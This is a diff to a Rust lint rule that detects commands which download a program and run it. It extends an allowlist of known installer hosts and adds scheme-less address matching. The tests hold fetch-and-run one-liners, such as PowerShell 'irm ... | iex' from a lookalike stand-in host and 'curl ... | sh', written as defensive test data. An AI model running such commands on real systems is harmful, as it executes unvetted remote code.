@@ -6,7 +6,7 @@ use crate::lint::rule::{Check, Example, Rule, Sink};
 use crate::manifest::source::Span;
 
 /// Where makers of well-known tools keep the installer that their own documentation tells to run so.
-const INSTALLERS: [&str; 32] = [
+const INSTALLERS: [&str; 35] = [
     "https://astral.sh/",
     "https://sh.rustup.rs",
     "https://bun.sh/",
@@ -37,6 +37,9 @@ const INSTALLERS: [&str; 32] = [
     "https://tailscale.com/install",
     "https://starship.rs/install",
     "https://pixi.sh/install",
+    "https://fluxcd.io/install",
+    "https://run.linkerd.io/install",
+    "https://sdk.cloud.google.com",
     "https://raw.githubusercontent.com/helm/",
     "https://raw.githubusercontent.com/ohmyzsh/",
 ];
@@ -104,7 +107,7 @@ fn check(context: &Context<'_>, hits: &[Span], sink: &mut Sink<'_>) {
         }
         let runs = is_run_at_once(before) || pipes_into_interpreter(download) || is_run_afterwards(download);
         if runs && !introduces_an_attack(context, command) {
-            let known = urls(download).next().is_some() && urls(download).all(is_installer);
+            let known = comes_from_installers(download);
             let span = Span::new(hit.start, command.end);
             let diagnostic = sink.report(span, "this downloads a program and runs it unseen");
             diagnostic.help("download it, look at it or check its digest, then run it");
@@ -189,6 +192,18 @@ fn urls(command: &str) -> impl Iterator<Item = &str> {
     })
 }
 
+/// Whether all that a command downloads comes from known installers. An address may be written without its scheme.
+fn comes_from_installers(command: &str) -> bool {
+    let mut urls = urls(command).peekable();
+    if urls.peek().is_some() {
+        return urls.all(is_installer);
+    }
+    let words = command.split('|').next().unwrap_or_default().split_whitespace().skip(1);
+    let mut addresses = words.filter(|word| !word.starts_with('-') && word.contains('.')).peekable();
+    let is_installer = |word: &str| is_installer(&format!("https://{}", word.trim_matches(['"', '\'', ')'])));
+    addresses.peek().is_some() && addresses.all(is_installer)
+}
+
 /// Whether a URL is a known installer's own: its host, and where the table names one its path, and not a longer name that starts alike.
 fn is_installer(url: &str) -> bool {
     INSTALLERS.iter().any(|installer| {
@@ -204,7 +219,11 @@ mod tests {
 
     #[test]
     fn only_an_installer_s_own_address_is_known() {
-        let known = |command: &str| urls(command).all(is_installer);
+        let known = comes_from_installers;
+        assert!(known("irm bun.sh/install.ps1 | iex"));
+        assert!(!known("irm bun.sh.parcels.example/install.ps1 | iex"));
+        assert!(!known("irm bun.sh/install.ps1 parcels.example/x | iex"));
+        assert!(!known("curl -s $URL | sh"));
         assert!(known("curl -LsSf https://astral.sh/uv/install.sh | sh"));
         assert!(known("curl --proto '=https' https://sh.rustup.rs | sh"));
         for command in [
